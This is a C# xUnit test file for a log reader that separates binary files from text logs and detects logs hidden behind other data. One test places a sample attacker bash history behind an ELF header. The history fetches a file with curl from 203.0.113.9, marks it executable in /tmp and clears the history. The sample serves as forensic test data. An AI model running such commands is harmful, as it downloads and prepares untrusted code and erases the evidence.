using System.IO.Compression;
using System.Text;
using Ashiato.Core;
using Ashiato.Input.Formats;
using Ashiato.Tests.Input.Formats.LoginRecords;

namespace Ashiato.Tests.Input.Formats;

/// <summary>What is clearly no log is not read and said; whatever may be text is.</summary>
public sealed class ForeignContentTests
{
    private const string Line = "2026-03-02T10:00:00+00:00 web1 sshd[12]: Failed password for root from 192.0.2.7 port 5 ssh2\n";

    private static readonly byte[] Random = RandomBytes(20_000);

    public static TheoryData<string, string, byte[]> Foreign => new()
    {
        { "ELF", "a program (ELF)", [0x7F, .. "ELF"u8, 2, 1, 1, .. new byte[900]] },
        { "PE", "a program (PE)", [.. "MZ"u8, .. Random] },
        { "PNG", "a picture (PNG)", [0x89, .. "PNG\r\n"u8, 0x1A, (byte)'\n', 0, 0, 0, 13, .. "IHDR"u8] },
        { "JPEG", "a picture (JPEG)", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF"u8] },
        { "GIF", "a picture (GIF)", [.. "GIF89a"u8, .. Random] },
        { "WebP", "a picture (WebP)", [.. "RIFF"u8, 1, 2, 3, 4, .. "WEBPVP8 "u8, .. Random] },
        { "PDF", "a document (PDF)", [.. "%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"u8] },
        { "SQLite", "a database (SQLite)", [.. "SQLite format 3"u8, 0, 16, 0, 1, 1] },
        { "deb", "an archive or package (ar, deb)", [.. "!<arch>\ndebian-binary   1772000000  0     0     100644  4         `\n2.0\n"u8] },
        { "pcap", "a capture of network packets (pcap)", [0xD4, 0xC3, 0xB2, 0xA1, 2, 0, 4, 0, .. Random] },
        { "random bytes", "data that is no text", Random },
        { "a few random bytes", "data that is no text", Random[..512] },
        { "random bytes, packed", "data that is no text", Gzip(Random) },
    };

    [Theory]
    [MemberData(nameof(Foreign))]
    public void What_is_no_log_is_not_read(string name, string what, byte[] content)
    {
        Assert.NotEmpty(name);
        var (isLog, read) = Read("auth.log", content);
        Assert.False(isLog);
        Assert.Empty(read.Records);
        var problem = Assert.Single(read.Problems);
        Assert.Equal((ProblemKind.NotALog, "auth.log"), (problem.Kind, problem.Path));
        Assert.StartsWith($"auth.log: not a log but {what}; ", problem.Text.En, StringComparison.Ordinal);
        Assert.DoesNotContain("{", problem.Text.Ja, StringComparison.Ordinal);
    }

    public static TheoryData<string, byte[]> Texts => new()
    {
        { "nothing", [] },
        { "zeros", new byte[5000] },
        { "a line", Encoding.ASCII.GetBytes(Line) },
        { "a hole after a crash", [.. new byte[3000], .. Encoding.ASCII.GetBytes(Line)] },
        { "UTF-16 without a mark", Encoding.Unicode.GetBytes(string.Concat(Enumerable.Repeat(Line, 20))) },
        { "EUC-JP", [.. Enumerable.Repeat((byte[])[0xA5, 0xED, 0xA5, 0xB0, 0xA5, 0xA4, 0xA5, 0xF3, (byte)'\n'], 300).SelectMany(b => b)] },
        { "Shift_JIS", [.. Enumerable.Repeat((byte[])[0x83, 0x8D, 0x83, 0x4F, 0x83, 0x43, 0x83, 0x93, (byte)'\n'], 300).SelectMany(b => b)] },
        { "ISO-2022-JP", Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("\u001b$B%m%0\u001b(B\n", 300))) },
        { "terminal colours", Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("\u001b[31mERROR\u001b[0m\n", 300))) },
        { "FIX with its separators", Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("8=FIX.4.2\u00019=65\u000135=A\u000149=X\u000156=Y\u0001\n", 100))) },
        { "one odd line among others", [.. Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat(Line, 30))), .. Random[..300], (byte)'\n', .. Encoding.ASCII.GetBytes(Line)] },
        { "a text that begins like a program", Encoding.ASCII.GetBytes("MZ-700 booted\n" + Line) },
        { "a text that begins like a picture", Encoding.ASCII.GetBytes("GIF89a is a format\n" + Line) },
        { "a text that begins like music", Encoding.ASCII.GetBytes("ID3 tags read: 5\n" + Line) },
        { "a line about a document", Encoding.ASCII.GetBytes("%PDF-generator started\n" + Line) },
    };

    [Theory]
    [MemberData(nameof(Texts))]
    public void What_may_be_text_is_read_whole(string name, byte[] content)
    {
        Assert.NotEmpty(name);
        var (isLog, read) = Read("app.log", content);
        Assert.True(isLog);
        Assert.Empty(read.Problems);
        Assert.Equal(content.Length, read.Records.Sum(r => r.RawLength + r.EndLength + r.NulBytes));
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void A_log_behind_other_data_is_read(bool isProgram)
    {
        byte[] before = isProgram ? [0x7F, .. "ELF"u8, 2, 1, 1, .. Random, (byte)'\n'] : [.. Random, (byte)'\n'];
        var log = Encoding.ASCII.GetBytes(Line + Line + "no format knows this\n" + Line);
        var (isLog, read) = Read("auth.log", [.. before, .. log]);
        Assert.True(isLog);
        Assert.Equal(log.Length, read.Records.Sum(r => r.RawLength + r.EndLength));
        Assert.Equal(before.Length, read.Records[0].Offset);
        var problem = Assert.Single(read.Problems);
        Assert.Equal((ProblemKind.Damaged, 0L), (problem.Kind, problem.Offset));
        Assert.Contains($"read from byte {before.Length} on", problem.Text.En, StringComparison.Ordinal);
        Assert.Contains($"{before.Length} バイト目", problem.Text.Ja, StringComparison.Ordinal);
    }

    [Fact]
    public void Who_names_the_format_gets_everything()
    {
        var (isLog, read) = Read("auth.log", Random, "syslog");
        Assert.True(isLog);
        Assert.Empty(read.Problems);
        Assert.Equal(Random.Length, read.Records.Sum(r => r.RawLength + r.EndLength + r.NulBytes));
    }

    /// <summary>Commands have no times: a history is judged line by line, so that a few bytes in front cannot hide it.</summary>
    [Fact]
    public void A_history_cannot_be_hidden_behind_a_magic()
    {
        var (isLog, read) = Read(".bash_history", [0x7F, .. "ELF\n"u8, .. "sudo -i\ncurl -s http://203.0.113.9/x -o /tmp/x\nchmod +x /tmp/x\nhistory -c\n"u8]);
        Assert.True(isLog);
        Assert.Equal(4, read.Records.Count(r => r.IsParsed));
    }

    [Theory]
    [InlineData("wtmp")]
    [InlineData("btmp")]
    [InlineData("lastlog")]
    public void Login_records_that_were_written_over_are_no_log(string name) => Assert.False(Read(name, Random).IsLog);

    private static (bool IsLog, Slots.Collected Read) Read(string name, byte[] content, string? format = null)
    {
        var sink = new Slots.Collected();
        var context = new ReadContext { Zone = TimeZoneInfo.Utc, Problems = sink, Origin = new RecordOrigin(name), Now = new DateTimeOffset(2026, 3, 31, 0, 0, 0, TimeSpan.Zero) };
        return (new LogReader(format).Read(new MemoryStream(content), name, sink, context), sink);
    }

    private static byte[] Gzip(byte[] content)
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Fastest))
        {
            gzip.Write(content);
        }

        return packed.ToArray();
    }

    private static byte[] RandomBytes(int length)
    {
        var bytes = new byte[length];
        new Random(20260302).NextBytes(bytes);
        return bytes;
    }
}
